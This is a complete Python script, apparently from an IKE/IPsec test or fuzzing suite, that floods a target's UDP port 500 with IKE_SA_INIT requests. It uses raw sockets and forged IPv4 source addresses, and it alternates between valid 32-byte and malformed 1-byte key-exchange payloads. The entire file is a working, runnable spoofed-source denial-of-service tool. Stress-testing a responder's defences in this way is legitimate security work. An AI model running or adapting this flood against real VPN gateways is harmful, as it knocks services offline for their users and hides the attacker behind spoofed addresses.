#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""IKE_SA_INIT requests from spoofed IPv4 sources, as a flood would send
them: a first message (aes128gcm16-prfsha256-x25519, a nonce) from an
address of each PREFIX in turn with a fresh SPI, every other one with a KE of 32 random
bytes (that would start a half-open IKE SA if the responder let it), the
others with a KE of one byte (that fails once the SA is made).

    ikeflood.py DST COUNT RATE PREFIX...

RATE: messages a second (0: as fast as possible). Prints how many went.
"""
import ipaddress
import os
import random
import socket
import struct
import sys
import time

from espfuzz import csum	# the IPv4 header checksum

IKE_SA_INIT = 34
PL_SA, PL_KE, PL_NONCE = 33, 34, 40


def transform(last, ttype, tid, attrs=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype,
                       0, tid) + attrs


def payload(next_type, body):
    return struct.pack("!BBH", next_type, 0, 4 + len(body)) + body


def sa_init(ke_len):
    key_len = struct.pack("!HH", 0x8000 | 14, 128)
    transforms = (transform(False, 1, 20, key_len) +  # ENCR AES-GCM-16
                  transform(False, 2, 5) +            # PRF HMAC-SHA2-256
                  transform(True, 4, 31))             # DH Curve25519
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0,
                           3) + transforms
    ke = struct.pack("!HH", 31, 0) + os.urandom(ke_len)
    body = (payload(PL_KE, proposal) + payload(PL_NONCE, ke) +
            payload(0, os.urandom(32)))
    header = os.urandom(8) + bytes(8) + struct.pack(
        "!BBBBII", PL_SA, 0x20, IKE_SA_INIT, 0x08, 0, 28 + len(body))
    return header + body


def datagram(src, dst, sport, dport, data):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp),
                     random.getrandbits(16), 0, 64, socket.IPPROTO_UDP, 0,
                     src.packed, dst.packed)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + udp


def main():
    if len(sys.argv) < 5:
        sys.exit(__doc__)
    dst = ipaddress.IPv4Address(sys.argv[1])
    count, rate = int(sys.argv[2]), float(sys.argv[3])
    prefixes = [list(ipaddress.IPv4Network(p).hosts()) for p in sys.argv[4:]]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    start = time.monotonic()
    for i in range(count):
        src = random.choice(prefixes[i % len(prefixes)])
        packet = datagram(src, dst, random.randint(1024, 65535), 500,
                          sa_init(32 if i // len(prefixes) % 2 else 1))
        try:
            sock.sendto(packet, (str(dst), 0))
            sent += 1
        except OSError:
            pass
        if rate:
            ahead = start + (i + 1) / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    print(sent)


if __name__ == "__main__":
    main()
